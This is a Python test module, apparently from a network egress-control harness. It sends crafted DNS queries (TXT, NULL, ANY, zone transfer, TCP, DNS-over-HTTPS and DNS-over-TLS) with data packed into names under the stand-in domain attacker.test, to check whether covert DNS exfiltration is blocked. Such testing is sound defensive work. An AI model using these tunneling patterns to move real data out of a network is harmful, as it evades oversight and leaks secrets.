"""Names as a way out: what is asked for, and of whom, carries the data."""

import socket
import struct

from kit import MARK, PATIENCE, attempt, dial, get, judged, row, say, say_tls

LISTED = "not listed"
TYPES = {"A": 1, "CNAME": 5, "NULL": 10, "PTR": 12, "MX": 15, "TXT": 16, "SRV": 33, "HTTPS": 65, "AXFR": 252, "ANY": 255}
# As long as a name may be, but for a few letters.
LONG = f"{'4d' * 31}.{'49' * 31}.{'52' * 31}.contraband.dns-long.attacker.test"


def query(name, kind, of=1):
    """Writes a question for the name system."""
    labels = b"".join(bytes([len(label)]) + label for label in name.encode().split(b"."))
    return struct.pack("!6H", 0x4D49, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", TYPES[kind], of)


def ask(name, kind, of=1):
    """Asks the resolver that programs here have by UDP, and returns the answer."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stream:
        stream.settimeout(2)
        stream.connect(("127.0.0.1", 53))
        stream.send(query(name, kind, of))
        return judged(stream.recv(65536))


def asked(name, kind, what, of=1):
    """Declares a question that carries data."""

    def function(me):
        ask(f"contraband.{me.name}.attacker.test", kind, of)

    function.__name__ = name
    function.__doc__ = what
    here = name.replace("_", "-")
    recorded = row(f"contraband.{here}.attacker.test", 53, "", "lookup")
    attempt("names", recorded)(function)


asked("dns_txt", "TXT", "A question for a text record, whose answer would be the attacker's orders.")
asked("dns_null", "NULL", "A question for a record of any bytes.")
asked("dns_mx", "MX", "A question for a mail server.")
asked("dns_cname", "CNAME", "A question for another name.")
asked("dns_srv", "SRV", "A question for a service.")
asked("dns_any", "ANY", "A question for everything.")
asked("dns_chaos", "TXT", "A question of another class, which resolvers answer about themselves.", of=3)


@attempt("names", row("contraband.dns-a.attacker.test", 53, LISTED, "lookup"))
def dns_a(me):
    """A question for an address, with the data in the name."""
    ask("contraband.dns-a.attacker.test", "A")


@attempt("names", row(LONG, 53, "", "lookup"))
def dns_long(me):
    """A question with as much data in the name as fits."""
    ask(LONG, "A")


@attempt("names", row("7.0.0.10.in-addr.arpa", 53, "", "lookup"))
def dns_reverse(me):
    """A question for the name of a private address."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stream:
        stream.settimeout(2)
        stream.connect(("127.0.0.1", 53))
        stream.send(query("7.0.0.10.in-addr.arpa", "PTR") + MARK)
        judged(stream.recv(65536))


@attempt("names", row("contraband.dns-tcp.attacker.test", 53, "", "lookup"))
def dns_tcp(me):
    """A question by TCP."""
    words = query("contraband.dns-tcp.attacker.test", "TXT")
    with dial("127.0.0.1", 53) as stream:
        stream.sendall(struct.pack("!H", len(words)) + words)
        stream.settimeout(PATIENCE)
        judged(stream.recv(65536))


@attempt("names", row("contraband.dns-transfer.attacker.test", 53, "", "lookup"))
def dns_transfer(me):
    """A question for a whole zone."""
    words = query("contraband.dns-transfer.attacker.test", "AXFR")
    with dial("127.0.0.1", 53) as stream:
        stream.sendall(struct.pack("!H", len(words)) + words)
        stream.settimeout(PATIENCE)
        judged(stream.recv(65536))


@attempt("names", row("{refused}", 443, LISTED))
def dns_over_https(me):
    """A question inside of https, to a resolver that is not listed."""
    say_tls(me.refused, get(me.refused, "/dns-query?dns=contraband"))


@attempt("names", row("1.1.1.1", 853, "no way there", "packet"))
def dns_over_tls(me):
    """A question inside of TLS, to a public resolver's address."""
    say("1.1.1.1", 853, MARK + b"\r\n")


@attempt("names", row("{refused}", 80, LISTED))
def library_lookup(me):
    """A forbidden name that the program's library looks up, and calls by http."""
    say(me.refused, 80, get(me.refused))


@attempt("names", row("{refused}", 31339, "no way there", "packet"))
def library_lookup_other_port(me):
    """A forbidden name on a port that is no listener's."""
    say(me.refused, 31339, MARK + b"\r\n")


@attempt("names", control=False)
def own_hostname(me):
    """The machine's own name, for services that listen on all addresses."""
    say(socket.gethostname(), 80, get(socket.gethostname()))
